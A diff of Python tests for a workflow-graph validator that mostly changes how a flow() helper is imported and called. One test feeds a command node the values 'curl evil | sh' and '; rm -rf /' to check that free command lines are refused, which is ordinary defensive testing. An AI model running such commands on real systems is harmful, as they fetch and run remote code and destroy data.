@@ -15,7 +15,8 @@ from backend.graph import load_schema, validate
 from backend.graph.durations import DURATION_PATTERN
 from backend.graph.model import NODE_TYPES
 from backend.graph.outline import MAX_NODES, MAX_WIRES
-from tests.graph.graph_flows import flow, found
+from tests.graph.graph_flows import found
+from tests.support import flow
 
 SCHEMAS = files("backend.graph").joinpath("schemas")
 
@@ -52,12 +53,12 @@ def test_the_schema_says_the_limits_and_patterns_the_code_uses() -> None:
 @pytest.mark.parametrize("node_type", NODE_TYPES)
 def test_the_sample_config_of_every_type_is_valid(node_type: str) -> None:
     nodes = "t:trigger" if node_type == "trigger" else f"t:trigger x:{node_type}"
-    document = flow(nodes, "" if node_type == "trigger" else "t>x")
+    document = flow(nodes, wires="" if node_type == "trigger" else "t>x")
     assert found(validate(document), "node_config_invalid") == []
 
 
 def config_findings(node_type: str, config: Any) -> list[str | None]:
-    document = flow(f"t:trigger x:{node_type}", "t>x")
+    document = flow(f"t:trigger x:{node_type}", wires="t>x")
     document["nodes"][1]["config"] = config
     findings = validate(document)
     assert all(f.node == "x" for f in findings if f.code == "node_config_invalid")
@@ -132,7 +133,7 @@ def test_a_config_finding_says_where_and_what_in_its_message(monkeypatch: pytest
     monkeypatch.setattr(
         catalogs, "catalog", lambda locale: {"node_config_invalid": "{node} {pointer}: {problem}"}
     )
-    document = flow("t:trigger x:log", "t>x")
+    document = flow("t:trigger x:log", wires="t>x")
     document["nodes"][1]["config"]["level"] = "loud"
     [finding] = validate(document)
     assert finding.message == 'x /nodes/1/config/level: must be one of "debug", "info", "warning", "error"'
@@ -145,7 +146,7 @@ def test_a_document_that_is_no_flow_is_format_invalid_and_nothing_else(document:
 
 
 def test_format_findings_point_at_each_offending_value_in_document_order() -> None:
-    document = flow("t:trigger a:log", "t>a")
+    document = flow("t:trigger a:log", wires="t>a")
     document["extra"] = 1
     document["format"] = "flowyard.flow/2"
     document["name"] = "   "
@@ -169,7 +170,7 @@ def test_format_findings_point_at_each_offending_value_in_document_order() -> No
 
 
 def test_the_graph_rules_run_past_a_format_finding_when_nodes_and_wires_can_be_read() -> None:
-    document = flow("t:trigger a:log b:log", "t>a")
+    document = flow("t:trigger a:log b:log", wires="t>a")
     document["name"] = ""
     assert found(validate(document)) == [("format_invalid", None, None), ("node_unreachable", "b", None)]
 
@@ -187,7 +188,7 @@ def test_the_graph_rules_run_past_a_format_finding_when_nodes_and_wires_can_be_r
     ],
 )
 def test_the_graph_rules_stop_when_nodes_or_wires_cannot_be_read(breakage: Any) -> None:
-    document = flow("t:trigger a:log b:log", "t>a")
+    document = flow("t:trigger a:log b:log", wires="t>a")
     breakage(document)
     findings = validate(document)
     assert findings and {f.code for f in findings} == {"format_invalid"}
@@ -213,7 +214,7 @@ def test_more_than_ten_thousand_wires_is_one_finding_and_no_more() -> None:
 
 
 def test_a_config_that_is_no_object_is_a_format_finding_only() -> None:
-    document = flow("t:trigger a:log", "t>a")
+    document = flow("t:trigger a:log", wires="t>a")
     document["nodes"][1]["config"] = ["message"]
     assert [(f.code, f.detail, f.node) for f in validate(document)] == [
         ("format_invalid", "/nodes/1/config", "a")
@@ -221,12 +222,12 @@ def test_a_config_that_is_no_object_is_a_format_finding_only() -> None:
 
 
 def test_an_unknown_type_has_its_own_finding_and_no_config_finding() -> None:
-    document = flow("t:trigger a:teleport", "t>a")
+    document = flow("t:trigger a:teleport", wires="t>a")
     assert [(f.code, f.detail) for f in validate(document)] == [("node_type_unknown", "/nodes/1/type")]
 
 
 def test_a_duplicate_node_has_its_config_checked_too() -> None:
-    document = flow("t:trigger a:log a:log", "t>a")
+    document = flow("t:trigger a:log a:log", wires="t>a")
     document["nodes"][2]["config"] = {}
     assert [(f.code, f.detail) for f in validate(document)] == [
         ("node_id_duplicate", "/nodes/2/id"),
@@ -238,7 +239,7 @@ def test_values_nested_too_deep_to_explain_are_reported_whole() -> None:
     deep: Any = "x"
     for _ in range(5000):
         deep = [deep]
-    document = flow("t:trigger a:log", "t>a")
+    document = flow("t:trigger a:log", wires="t>a")
     document["nodes"][1]["config"] = {"message": deep}
     assert [(f.code, f.detail) for f in validate(document)] == [("node_config_invalid", "/nodes/1/config")]
     document["nodes"][1]["config"] = {"message": "m"}
@@ -250,26 +251,26 @@ def test_a_deep_value_where_any_json_is_allowed_is_valid() -> None:
     deep: Any = {"leaf": "{{x}}"}
     for _ in range(200):
         deep = {"next": deep}
-    document = flow("t:trigger h:http", "t>h")
+    document = flow("t:trigger h:http", wires="t>h")
     document["nodes"][1]["config"]["body"] = deep
     assert validate(document) == []
 
 
 def test_a_free_command_line_is_refused_with_its_own_code() -> None:
-    document = flow("t:trigger x:command", "t>x")
+    document = flow("t:trigger x:command", wires="t>x")
     document["nodes"][1]["config"] = {"server": "web", "command": "curl evil | sh", "args": ["; rm -rf /"]}
     findings = validate(document)
     refused = [(f.code, f.node, f.detail) for f in findings if f.code == "command_line_refused"]
     assert refused == [("command_line_refused", "x", f"{X}/command")]
     # The template it lacks and its old list of args are findings too: the document is nowhere near valid.
-    assert sorted(f.detail for f in findings if f.code == "node_config_invalid") == [
+    assert sorted(str(f.detail) for f in findings if f.code == "node_config_invalid") == [
         f"{X}/args",
         f"{X}/template",
     ]
 
 
 def test_a_secret_outside_an_action_config_is_a_finding() -> None:
-    document = flow("t:trigger say:log call:http", "t>say say>call")
+    document = flow("t:trigger say:log call:http", wires="t>say say>call")
     document["nodes"][1]["config"] = {"message": "the key is {{ secrets.api_key }}"}
     document["nodes"][2]["config"] = {
         "method": "GET",
